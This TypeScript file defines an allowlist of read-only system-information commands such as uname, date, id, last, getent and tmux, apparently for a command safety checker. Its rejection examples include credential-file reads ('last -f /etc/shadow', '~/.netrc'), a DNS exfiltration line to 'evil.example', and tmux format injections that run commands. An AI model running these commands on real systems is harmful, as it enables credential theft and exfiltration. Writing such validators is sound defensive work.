import { also, nameServer, type Program, reads, subs } from "./program.ts";

/** Names that tmux itself knows: any other one is looked up among the variables of its server. */
const tmuxField =
  "(?:session_(?:id|name|windows|created|attached|activity|group|path|last_attached)|window_(?:id|name|index|active|flags|panes|width|height|layout|activity|zoomed_flag)|pane_(?:id|index|active|title|pid|tty|width|height|dead|current_command|current_path|in_mode|top|left)|client_(?:name|tty|pid|width|height|session|termname|activity|readonly)|history_(?:size|limit)|host|host_short|version|pid|start_time)";

/** What the machine is, and what it is set to. */
const machine: readonly Program[] = [
  reads("uname", {
    options: `-asnrvmpio --all --kernel-name --nodename --kernel-release --kernel-version --machine --processor
      --hardware-platform --operating-system`,
    match: ["uname -a", "uname -srm"],
    notMatch: ["uname -S newname", "uname newname"],
  }),
  // On macOS its words are a program that it runs.
  reads("arch", { match: ["arch"], notMatch: ["arch -x86_64 make", "arch make"] }),
  reads("nproc", { options: "--all --ignore=*", match: ["nproc", "nproc --all"], notMatch: ["nproc x"] }),
  reads("hostid logname dnsdomainname getenforce", {
    match: ["hostid", "getenforce"],
    notMatch: ["dnsdomainname -F /tmp/x", "hostid x"],
  }),
  also(
    { connects: [nameServer] },
    reads("hostname", {
      options: `-aAdfiIsy --alias --all-fqdns --domain --fqdn --long --ip-address --all-ip-addresses --short --yp --nis
      ?-F= ?--file= ?-b ?--boot`,
      match: ["hostname", "hostname -f", "hostname -I"],
      notMatch: ["hostname web1", "hostname -F /etc/hostname", "hostname -b web1"],
    }),
  ),
  reads("domainname nisdomainname ypdomainname", { match: ["domainname"], notMatch: ["domainname example"] }),
  also(
    { starts: ["getopt", "tr", "cut", "sed"] },
    reads("lsb_release", {
      options: "-aidcrsvu --all --id --description --codename --release --short",
      match: ["lsb_release -a", "lsb_release -sc"],
      notMatch: ["lsb_release x"],
    }),
  ),
  subs("getconf", "", [
    // With `-v` it runs a program of that name.
    { sub: "-a", match: ["getconf -a"], notMatch: ["getconf -v ../x PATH"] },
    { operands: ["text"], match: ["getconf PAGE_SIZE", "getconf _NPROCESSORS_ONLN"], notMatch: ["getconf -v x Y"] },
  ]),
  also(
    { starts: ["gzip"] },
    reads("locale", {
      options: "-amvck --all-locales --charmaps --verbose --category-name --keyword-name",
      operands: ["text"],
      loose: true,
      match: ["locale", "locale -a", "locale -k LC_TIME"],
      notMatch: ["locale --no-such"],
    }),
  ),
  reads("stty", {
    options: "-ag --all --save",
    match: ["stty -a", "stty"],
    notMatch: ["stty -echo", "stty -F /dev/ttyS0 -a", "stty sane"],
  }),
  reads("tty", { options: "-s --silent --quiet", match: ["tty"], notMatch: ["tty x"] }),
  reads("sysctl", {
    options: `-aAnNbeqdhoX -r= --all --names --values --binary --ignore --pattern=* ?-w ?--write ?-p[=] ?--load[=] ?-f=
      ?--system`,
    operands: ["text"],
    operandIs: /^[\w-]+(?:[./][\w-]+)*$/,
    match: ["sysctl -a", "sysctl net.ipv4.ip_forward", "sysctl -n vm.swappiness"],
    notMatch: ["sysctl vm.swappiness=1", "sysctl -w vm.swappiness=1", "sysctl -p", 'sysctl "$x"', "sysctl -f x"],
  }),
  reads("sestatus", { options: "-vb", match: ["sestatus"], notMatch: ["sestatus x"] }),
  reads("getsebool", {
    options: "-a",
    operands: ["text"],
    match: ["getsebool -a", "getsebool httpd_enable_homedirs"],
    notMatch: ["getsebool -x"],
  }),
  reads("aa-status apparmor_status", {
    options: "--enabled --profiled --enforced --complaining --verbose --json --pretty-json",
    match: ["aa-status", "aa-status --json"],
    notMatch: ["aa-status x"],
  }),
  subs("update-alternatives alternatives", "", [
    {
      sub: "--display|--list|--query",
      operands: ["text"],
      operandIs: /^[\w.+-]+$/,
      match: ["update-alternatives --display editor", "alternatives --list"],
      notMatch: ["update-alternatives --list --auto editor", "update-alternatives --set editor /usr/bin/vim"],
    },
    {
      sub: "--get-selections",
      match: ["update-alternatives --get-selections"],
      notMatch: ["update-alternatives --set-selections", "update-alternatives --admindir x --display editor"],
    },
  ]),
  subs("ldconfig", "", [
    { sub: "-p|--print-cache", match: ["ldconfig -p"], notMatch: ["ldconfig", "ldconfig -v", "ldconfig -p -C x"] },
  ]),
];

/** Clock and calendar. */
const time: readonly Program[] = [
  also(
    { getopt: true },
    reads("date", {
      // Without a plus sign a word is the new time; `-f` is a file on Linux, and on macOS how to read that time.
      options: `-ujRn -d=* -r=* -v=* -z= -I[=] --date=* --iso-8601[=] --rfc-3339= --rfc-email --rfc-2822 --utc --universal
      --reference=* --debug --resolution ?-s= ?--set= ?-f=< ?--file=<`,
      operands: ["text"],
      operandIs: /^\+/,
      match: ["date", "date +%F", "date -u +%FT%TZ", "date -d '2 days ago' +%F", "date -Is", "date -v -1d +%F"],
      notMatch: ["date -s tomorrow", "date 010112002030", "date --se=now", "date -f ~/.netrc", 'date "$x"'],
    }),
  ),
  reads("uptime", {
    options: "-psrc --pretty --since --raw --container",
    match: ["uptime", "uptime -p"],
    notMatch: ["uptime x"],
  }),
];

/** Who is here, and who was. */
const people: readonly Program[] = [
  reads("whoami", { match: ["whoami"], notMatch: ["whoami x"] }),
  reads("id", {
    options: "-aAFGgnrupPzZ --context --group --groups --name --real --user --zero",
    operands: ["text"],
    loose: true,
    match: ["id", "id -u", "id -un bob", "id -nG"],
    notMatch: ["id --no-such"],
  }),
  reads("groups", {
    operands: ["text"],
    loose: true,
    match: ["groups", "groups dev"],
    notMatch: ["groups -x"],
  }),
  reads("users", { match: ["users"], notMatch: ["users ~/.netrc"] }),
  reads("who", {
    options: `-abdHilmpqrsTtuw --all --boot --dead --heading --ips --login --lookup --process --count --runlevel
      --short --time --users --mesg --message --writable`,
    operands: ["read"],
    operandIs: /^(?:am|i|I|\/var\/(?:log\/wtmp|run\/utmp)(?:\.\d)?)$/,
    match: ["who", "who -a", "who am i", "who /var/log/wtmp"],
    notMatch: ["who ~/.netrc", "who --no-such"],
  }),
  reads("w", {
    options: "-hsfiouVpc --no-header --short --from --old-style --ip-addr --no-current --pids --container",
    operands: ["text"],
    match: ["w", "w -h", "w dev"],
    notMatch: ["w -M core"],
  }),
  reads("last lastb", {
    options: `-# -RaFiwxy ?-d ?--dns -n= -N= -s= -t= -p= -f=< --hostlast --fulltimes --ip --fullnames --system --nohostname
      --limit= --since=* --until=* --present= --time-format= --file=<`,
    operands: ["text"],
    match: ["last", "last -10", "last -n 5", "last reboot", "lastb -n 5", "last -f /var/log/wtmp.1"],
    // Names of machines are looked up elsewhere.
    notMatch: ["last -f ~/.netrc", "last -f /etc/shadow", "last --fi=/etc/shadow", "last --dns", "last -ad"],
  }),
  reads("lastlog", {
    options: "-b= -t= -u= --before=* --time= --user=* ?-C ?-S ?--clear ?--set",
    match: ["lastlog", "lastlog -u dev"],
    notMatch: ["lastlog -C -u dev", "lastlog -S -u dev", "lastlog -R /mnt", "lastlog --cl -u dev"],
  }),
  also(
    { connects: [nameServer] },
    subs("getent", "", [
      {
        sub: "passwd|group|services|protocols|networks|rpc|ethers|aliases|initgroups|netgroup",
        operands: ["text"],
        match: ["getent passwd root", "getent group docker", "getent passwd"],
        // With `-s` it loads a library of that name.
        notMatch: ["getent shadow", "getent gshadow", "getent -s ./x passwd", "getent passwd -s x"],
      },
      {
        sub: "hosts|ahosts|ahostsv4|ahostsv6",
        operands: ["text"],
        talks: true,
        match: ["getent hosts example.com", "getent hosts localhost"],
        notMatch: ['getent hosts "$(hostname).evil.example"'],
      },
    ]),
  ),
  also(
    { opens: /^\/etc\/\.pwd\.lock$/ },
    reads("lslogins", {
      options: `-acefGLmnprsuyzZ -g= -l= -o= --acc-expiration --colon-separated --export --failed --supp-groups
      --groups= --last --logins= --newline --noheadings --notruncate --output= --output-all --pwd --raw --system-accs
      --time-format= --user-accs --print0`,
      operands: ["text"],
      match: ["lslogins", "lslogins -u", "lslogins dev"],
      notMatch: ["lslogins --wtmp-file ~/.netrc"],
    }),
  ),
];

/** Planned jobs and other terminals. */
const later: readonly Program[] = [
  also(
    { connects: ["/dev/log"] },
    reads("crontab", {
      options: "-l -u=",
      has: ["-l"],
      match: ["crontab -l", "crontab -u dev -l"],
      notMatch: [
        "crontab",
        "crontab -u dev",
        "crontab -r",
        "crontab -l x",
        "crontab -- -l",
        "crontab -lr",
        "crontab -e",
      ],
    }),
  ),
  reads("atq", { options: "-q= -V", match: ["atq", "atq -q a"], notMatch: ["atq -f x"] }),
  reads("at", {
    options: "-l -q= -V",
    has: ["-l"],
    match: ["at -l"],
    notMatch: ["at now", "at -ql now", "at -c 3", "at -f x -l now", "at -r 3"],
  }),
  also(
    { connects: ["/tmp/tmux-"], opens: /^\/tmp\/tmux-\d+$/ },
    subs("tmux", "-u2", [
      {
        sub: "ls|list-sessions|lsw|list-windows|lsp|list-panes|lsc|list-clients|has|has-session",
        options: "-as -t= -F= -f=",
        // Plain variables only: what modifiers put together may be a command, which tmux then runs.
        values: {
          "-F": new RegExp(`^(?:[^#]|#\\{${tmuxField}\\}|#[SWIPFDTH])*$`),
          "-f": new RegExp(`^#\\{${tmuxField}\\}$`),
        },
        match: [
          "tmux ls",
          "tmux list-windows -a",
          "tmux list-windows -t work",
          "tmux has-session -t work",
          "tmux ls -F '#{session_name}: #{session_windows}'",
        ],
        notMatch: [
          "tmux ls -F '#(id)'",
          "tmux ls -F '#{db_password}'",
          "tmux ls -F '#{E:x}'",
          "tmux ls -F '#{E;=200:#{s/X/##/:#{l:X}}(touch x)}'",
          "tmux ls -f '#{T;l:#(id)}'",
          "tmux ls -F '##{l:#}(id)'",
          "tmux -f x ls",
          "tmux -S./sock ls",
          "tmux ls \\; run id",
          "tmux list-keys",
        ],
      },
    ]),
  ),
  also(
    { opens: /^\/run\/screen(?:\/S-\w+)?$/ },
    subs("screen", "", [
      { sub: "-ls|-list", match: ["screen -ls", "screen -list"], notMatch: ["screen -wipe", "screen -ls x", "screen"] },
    ]),
  ),
];

/** Settings, time, users and planned jobs of a machine. */

export const systemPrograms: readonly Program[] = [...machine, ...time, ...people, ...later];
